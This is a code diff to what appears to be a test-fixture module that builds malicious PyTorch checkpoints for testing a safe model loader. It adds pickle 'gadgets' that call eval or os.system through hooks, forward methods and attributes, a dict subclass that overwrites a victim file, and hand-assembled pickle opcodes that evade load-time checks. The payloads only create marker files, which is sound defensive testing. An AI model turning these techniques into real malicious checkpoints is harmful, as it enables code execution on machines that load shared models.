@@ -29,9 +29,10 @@ import pickle
 import sys
 import types
 import zipfile
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, Callable, Iterator
+from typing import Any, Callable
 
 import torch
 from torch import nn
@@ -48,7 +49,7 @@ def _touch_expr(marker: Path) -> str:
 def _parse_model(cfg: Any) -> None:
     """Like YOLOv5's parse_model: evaluates strings from the config."""
     for expr in (cfg or {}).get("exprs", []):
-        eval(expr)  # noqa: S307 - the point of the fake
+        eval(expr)
 
 
 class _Model(nn.Module):
@@ -67,16 +68,16 @@ class _Layer(nn.Module):
 
     def forward(self, x: Any) -> Any:
         if isinstance(x, str):
-            eval(x)  # noqa: S307
+            eval(x)
         return x
 
     def forward_fuse(self, x: Any) -> Any:
         if isinstance(x, str):
-            eval(x)  # noqa: S307
+            eval(x)
         return x
 
     def run(self, expr: str) -> None:
-        eval(expr)  # noqa: S307
+        eval(expr)
 
 
 class _Runner(nn.Module):
@@ -85,14 +86,14 @@ class _Runner(nn.Module):
     def __init__(self, expr: str | None = None) -> None:
         super().__init__()
         if expr:
-            eval(expr)  # noqa: S307
+            eval(expr)
 
 
 class _Stateful:
     """A data class whose __setstate__ acts on the state."""
 
     def __setstate__(self, state: dict) -> None:
-        eval(state.get("expr", "None"))  # noqa: S307
+        eval(state.get("expr", "None"))
         self.__dict__.update(state)
 
 
@@ -100,11 +101,27 @@ class _Finalized:
     """A class whose __del__ acts on its attributes."""
 
     def __del__(self) -> None:
-        eval(self.__dict__.get("expr", "None"))  # noqa: S307
+        eval(self.__dict__.get("expr", "None"))
 
 
 class _Plain:
-    """A harmless plain class (reconstructable once registered)."""
+    """A harmless plain class."""
+
+
+class _Caller:
+    """A callable data class (like ultralytics' MixUp): calling it evaluates ``expr`` of its state."""
+
+    def __call__(self, *args: Any, **kwargs: Any) -> Any:
+        eval(self.__dict__.get("expr", "None"))
+        return args[-1] if args else None
+
+
+class _FileDict(dict):
+    """A dict saved to ``file_path`` on item assignment (like ultralytics' JSONDict)."""
+
+    def __setitem__(self, key: Any, value: Any) -> None:
+        super().__setitem__(key, value)
+        Path(self.__dict__["file_path"]).write_text("overwritten")
 
 
 def install_fake_host() -> types.ModuleType:
@@ -116,7 +133,7 @@ def install_fake_host() -> types.ModuleType:
     mod = types.ModuleType(f"{FAKE_HOST}.models")
     for obj, name in ((_parse_model, "parse_model"), (_Model, "Model"), (_Layer, "Layer"),
                       (_Runner, "Runner"), (_Stateful, "Stateful"), (_Finalized, "Finalized"),
-                      (_Plain, "Plain")):
+                      (_Plain, "Plain"), (_Caller, "Caller"), (_FileDict, "FileDict")):
         obj.__module__, obj.__qualname__, obj.__name__ = mod.__name__, name, name
         setattr(mod, name, obj)
     pkg.models = mod
@@ -139,7 +156,7 @@ class Call:
         raise AssertionError("a gadget is only pickled, never called")
 
     @property  # type: ignore[misc]
-    def __class__(self) -> Any:  # noqa: D105
+    def __class__(self) -> Any:
         return self._cls if self._cls is not None else Call
 
     def __reduce__(self) -> tuple:
@@ -395,3 +412,107 @@ def write_gadget(name: str, directory: Path, *, protocol: int = 2, nest_in: str 
 
 def pickle_protocols() -> range:
     return range(0, pickle.HIGHEST_PROTOCOL + 1)
+
+
+# ----------------------------------------------------------------------------- round two: objects used later
+# A payload that is not called while loading but later, by the program: as a module's forward, as a hook, in an
+# attribute. Each CALLABLE is an object whose call creates the marker; each PLACE puts it somewhere in a model.
+def _caller(marker: Path) -> Any:
+    return reconstruct(_fake("Caller"), {"expr": _touch_expr(marker)})
+
+
+def _mixup(marker: Path) -> Any:  # ultralytics' MixUp, named without importing it; its dataset's cache is the victim
+    return reconstruct(ref("ultralytics.data.augment.MixUp"), {"dataset": None, "p": 1.0, "victim": str(marker)})
+
+
+def _module_payload(marker: Path) -> Any:  # a module instance whose forward evaluates its argument
+    return reconstruct(_fake("Runner"), {"expr": _touch_expr(marker)})
+
+
+def _bound_method(marker: Path) -> Any:  # a bound method of an object of the file
+    return call(getattr, _layer(), "run")
+
+
+def _function(marker: Path) -> Any:  # a function of the standard library
+    return os.system
+
+
+CALLABLES: dict[str, Callable[[Path], Any]] = {
+    "caller_instance": _caller, "mixup_instance": _mixup, "module_instance": _module_payload,
+    "bound_method": _bound_method, "function": _function,
+}
+
+
+def _place(model: nn.Module, payload: Any, place: str) -> None:
+    target = model[0]
+    if place == "forward":
+        target.__dict__["forward"] = payload
+    elif place == "forward_hook":
+        target._forward_hooks[0] = payload
+    elif place == "forward_pre_hook":
+        target._forward_pre_hooks[0] = payload
+    elif place == "state_dict_hook":
+        target._state_dict_hooks[0] = payload
+    elif place == "list_attr":
+        target.__dict__["callbacks"] = [payload]
+    elif place == "dict_attr":
+        target.__dict__["transforms"] = {"train": payload}
+    elif place == "tuple_attr":
+        target.__dict__["act"] = (payload,)
+    elif place == "top_attr":
+        model.__dict__["forward"] = payload
+    else:
+        raise ValueError(place)
+
+
+PLACES = ("forward", "forward_hook", "forward_pre_hook", "state_dict_hook", "list_attr", "dict_attr", "tuple_attr",
+          "top_attr")
+
+
+def write_later_gadget(kind: str, place: str, directory: Path) -> tuple[Path, Path]:
+    """A checkpoint whose model carries CALLABLES[kind] at PLACES[place]; returns ``(path, marker)``."""
+    directory = Path(directory)
+    marker = directory / f"later-{kind}-{place}.marker"
+    model = small_model()
+    _place(model, CALLABLES[kind](marker), place)
+    path = directory / f"later-{kind}-{place}.pt"
+    return write_checkpoint(path, {"model": model, "epoch": 1}), marker
+
+
+def write_file_dict(directory: Path, victim: Path, where: str = "top") -> Path:
+    """A checkpoint that is (or holds) a dict subclass writing ``victim`` on item assignment (ultralytics' JSONDict
+    pattern); ``where``: ``top``, ``nested``, or ``jsondict`` (the real ultralytics class path)."""
+    cls = ref("ultralytics.utils.JSONDict") if where == "jsondict" else _fake("FileDict")
+    payload = Call(copyreg.__newobj__, cls, state={"file_path": str(victim)}, dictitems={"model": None, "epoch": 1})
+    obj = payload if where in ("top", "jsondict") else {"epoch": 1, "model": None, "train_args": payload}
+    return write_checkpoint(Path(directory) / f"filedict-{where}.pt", obj)
+
+
+# ------------------------------------------------------------------------------ hand-written pickle programs
+def pickle_program(*ops: bytes) -> bytes:
+    """A protocol-2 pickle from raw opcode chunks (ends with STOP)."""
+    return b"\x80\x02" + b"".join(ops) + b"."
+
+
+def unicode(text: str) -> bytes:
+    """BINUNICODE ``text``."""
+    raw = text.encode()
+    return b"X" + len(raw).to_bytes(4, "little") + raw
+
+
+def memo_mutation_program(marker: Path) -> bytes:
+    """A module whose hook dict passes any check at BUILD time and is filled through the memo afterwards:
+    ``{'model': Identity}`` with ``_forward_hooks`` = memo 9 (empty at BUILD), then ``memo[9][0] = Caller``."""
+    od = b"ccollections\nOrderedDict\n)R"
+    state = b"}(" + b"".join(unicode(k) + v for k, v in [
+        ("training", b"\x89"), ("_parameters", od), ("_buffers", od), ("_modules", od),
+        ("_non_persistent_buffers_set", b"c__builtin__\nset\n)R"), ("_is_full_backward_hook", b"N"),
+        *((k, od) for k in ("_backward_hooks", "_backward_pre_hooks", "_forward_pre_hooks",
+                            "_forward_hooks_with_kwargs", "_forward_hooks_always_called",
+                            "_forward_pre_hooks_with_kwargs", "_state_dict_hooks", "_state_dict_pre_hooks",
+                            "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks")),
+        ("_forward_hooks", od + b"q\x09")]) + b"u"
+    identity = b"ctorch.nn.modules.linear\nIdentity\n)\x81" + state + b"b"
+    caller = (b"c" + FAKE_HOST.encode() + b".models\nCaller\n)\x81}" + unicode("expr")
+              + unicode(_touch_expr(marker)) + b"sb")
+    return pickle_program(b"}(" + unicode("model") + identity + b"u", b"h\x09K\x00" + caller + b"s0")
